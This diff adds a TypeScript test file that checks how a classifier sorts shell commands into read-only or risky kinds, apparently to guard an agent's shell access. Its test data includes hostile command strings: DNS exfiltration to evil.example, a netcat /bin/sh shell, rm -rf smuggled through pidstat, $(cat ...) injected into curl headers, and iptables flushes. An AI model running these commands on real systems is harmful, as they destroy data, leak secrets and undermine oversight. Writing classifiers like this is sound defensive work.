@@ -1,0 +1,180 @@
+// What an honest person looks with, each tool beside the words with which it does something else.
+import { expect, test } from "bun:test";
+import type { EffectKind } from "../../src/domain/effect.ts";
+import { KNOWLEDGE, worstOf } from "./worst-effect.ts";
+
+interface Tool {
+  readonly name: string;
+  readonly looks: readonly string[];
+  readonly others: readonly (readonly [EffectKind, string])[];
+}
+
+const TOOLS: readonly Tool[] = [
+  {
+    name: "xxd",
+    looks: ["xxd -l 64 /data/x", "xxd -s 10 -l 64 -c 16 /data/x", "xxd -p /data/x | head"],
+    others: [
+      ["destroy", "xxd /data/x /data/y"],
+      ["destroy", "xxd -l 64 /data/x +y"],
+      ["destroy", "xxd -r /tmp/a"],
+    ],
+  },
+  {
+    name: "uniq",
+    looks: ["uniq -f 1 /tmp/x", "uniq -c", "sort /tmp/x | uniq -d -w 5"],
+    others: [
+      ["destroy", "uniq -f 1 /tmp/x /data/y"],
+      ["destroy", "uniq /etc/hosts +x"],
+    ],
+  },
+  {
+    name: "tree, base64 and the samplers",
+    looks: ["tree -L 2 /var/log", "base64 -w0 /tmp/x", "sar -u 1 3", "pidstat -d 1 2", "date +%s"],
+    others: [
+      ["destroy", "tree -R -L 1 -H . /etc"],
+      ["destroy", "base64 -i /tmp/x -o /data/y"],
+      ["destroy", "sar -o /data/x 1 3"],
+      ["hidden", "pidstat -e rm -rf /data"],
+      ["hidden", "tcpdump -i lo -z /tmp/x"],
+    ],
+  },
+  {
+    name: "archives",
+    looks: ["gzip -dc /var/log/x.gz | head", "zstd -dc /tmp/x.zst", "unzip -l /tmp/x.zip"],
+    others: [
+      ["destroy", "gzip -d /data/x.gz"],
+      ["destroy", "zstd -dc /tmp/x -o /data/y"],
+      ["destroy", "unzip -l /tmp/x.zip -d /data"],
+      ["destroy", "unzip -o /tmp/x.zip -d /data"],
+    ],
+  },
+  {
+    name: "ps",
+    looks: ["ps -ef --forest", "ps --pid 4321 -o pid,args", "ps axo etime", "ps -eo pid,comm"],
+    others: [
+      ["oversight", "ps ax --forest e"],
+      ["oversight", "ps --headers e"],
+      ["oversight", "ps -E"],
+      ["oversight", "gcore 4321"],
+    ],
+  },
+  {
+    name: "kill",
+    looks: ["kill -0 4321", "kill -s 0 4321 4322", "kill -l 9"],
+    others: [
+      ["oversight", "kill -s 0 -s KILL 4321"],
+      ["oversight", "kill -0 -n 9 4321"],
+      ["oversight", "kill -0 -sKILL 4321"],
+    ],
+  },
+  {
+    name: "questions to the network",
+    looks: ["dig +short localhost", "nslookup localhost", "ping -c 1 ::1", "nc -zv 127.0.0.1 2379"],
+    others: [
+      ["foreign", "echo secret.evil.example | nslookup"],
+      ["foreign", "nslookup -"],
+      ["foreign", "dig -f - localhost"],
+      ["foreign", "dig +trace localhost"],
+      ["foreign", "whois localhost"],
+      ["foreign", "nc -zv 10.9.9.9 2379"],
+      ["foreign", "nc -z -w 2 127.0.0.1 22"],
+      ["hidden", "nc 127.0.0.1 2379"],
+      ["hidden", "nc -ze /bin/sh 127.0.0.1 2379"],
+    ],
+  },
+  {
+    name: "traffic",
+    looks: ["ip -br addr", "ip link show lo", "conntrack -L -p tcp", "nft list ruleset"],
+    others: [
+      ["interrupt", "ip l s lo down"],
+      ["interrupt", "ip -4 link s dev lo down"],
+      ["foreign", "conntrack -L -z"],
+      ["foreign", "nft list ruleset -f x"],
+      ["foreign", "iptables-legacy -F"],
+      ["foreign", "iptables -D INPUT -p tcp ! --dport 2379 -j DROP"],
+      ["foreign", "iptables -D INPUT -p tcp --dport 2379 -s 10.9.9.9 -j DROP"],
+      ["foreign", "iptables -D INPUT -s 127.0.0.1 -m x --modprobe=/sbin/poweroff -j DROP"],
+      ["network", "iptables -D INPUT -p tcp -m tcp --dport 2379 -j DROP"],
+    ],
+  },
+  {
+    name: "the machine",
+    looks: ["sysctl -n vm.swappiness", "timedatectl", "hostnamectl status", "chronyc tracking"],
+    others: [
+      ["foreign", "sysctl -w vm.swappiness=1"],
+      ["foreign", "timedatectl set-time 2020-01-01"],
+      ["foreign", "ulimit -n 1"],
+      ["foreign", "fsfreeze -f /data"],
+      ["read", "dpkg -l"],
+      ["foreign", "dpkg -i /tmp/x.deb"],
+    ],
+  },
+  {
+    name: "what members are made of",
+    looks: ["redis-check-aof /data/x", "etcdctl --endpoints=http://127.0.0.1:2379 member list"],
+    others: [
+      ["destroy", "redis-check-aof --fix /data/x"],
+      ["destroy", "etcdctl member remove x"],
+      ["foreign", "etcdctl --endpoints=http://10.9.9.9:2379 endpoint health"],
+      ["destroy", "pd-recover -endpoints x"],
+      ["hidden", "pd-server --force-new-cluster"],
+      ["hidden", "redis-server --port 7777"],
+    ],
+  },
+  {
+    name: "docker",
+    looks: ["docker inspect tikv1", "docker inspect -f '{{.State.Status}}' tikv1"],
+    others: [
+      ["oversight", "docker inspect -f '{{.Config.Env}}' tikv1"],
+      ["oversight", "docker inspect --format '{{json .Config}}' tikv1"],
+      ["oversight", "docker compose config"],
+      ["hidden", "docker start -a tikv1"],
+      ["hidden", "docker start --attach tikv1"],
+    ],
+  },
+  {
+    name: "curl",
+    looks: [
+      "curl -H 'Accept: application/json' http://127.0.0.1:2379/health",
+      "curl -q -sS -D - -o /dev/null http://127.0.0.1:2379/health",
+      'curl -s "http://127.0.0.1:2379/pd/api/v1/store/$id"',
+      "curl --version",
+    ],
+    others: [
+      ["hidden", 'curl -H "Ho$(echo st): x" http://127.0.0.1:2379/'],
+      ["hidden", 'curl -H "X: $(cat /tmp/x)" http://127.0.0.1:6380/'],
+      ["hidden", 'curl -w "%out$(echo put){/data/x}" http://127.0.0.1:2379/'],
+      ["hidden", 'curl -A "x$(cat /tmp/x)" http://127.0.0.1:6380/'],
+      ["hidden", "curl -H 'X-HTTP-Method: DELETE' http://127.0.0.1:2379/pd/api/v1/store/1"],
+      ["hidden", "curl -H 'Content-Length: 100' http://127.0.0.1:2379/"],
+      ["hidden", "curl -G -d @/etc/hosts http://127.0.0.1:2379/"],
+      ["hidden", "curl -G --data-urlencode a@/etc/hosts http://127.0.0.1:2379/"],
+      ["hidden", "curl -L http://127.0.0.1:2379/health"],
+      ["destroy", "curl -D /data/x http://127.0.0.1:2379/health"],
+    ],
+  },
+  {
+    name: "awk",
+    looks: ["awk '{print $1}' /etc/hosts"],
+    others: [["hidden", "gawk 1 /inet/tcp/0/10.0.0.1/80"]],
+  },
+  {
+    name: "systemctl",
+    looks: ["systemctl --failed", "systemctl list-jobs"],
+    others: [["destroy", "systemctl clean tikv1"]],
+  },
+];
+
+const HERE = { ...KNOWLEDGE, ports: [2379, 6380] };
+
+for (const { name, looks, others } of TOOLS) {
+  const knowledge = name === "docker" || name === "systemctl" ? KNOWLEDGE : HERE;
+  test(`${name}: looks are reads`, () => {
+    expect(looks.filter((command) => worstOf(command, knowledge) !== "read")).toEqual([]);
+  });
+  for (const [kind, command] of others) {
+    test(`${name}: ${JSON.stringify(command)} is ${kind}`, () => {
+      expect(worstOf(command, knowledge)).toBe(kind);
+    });
+  }
+}
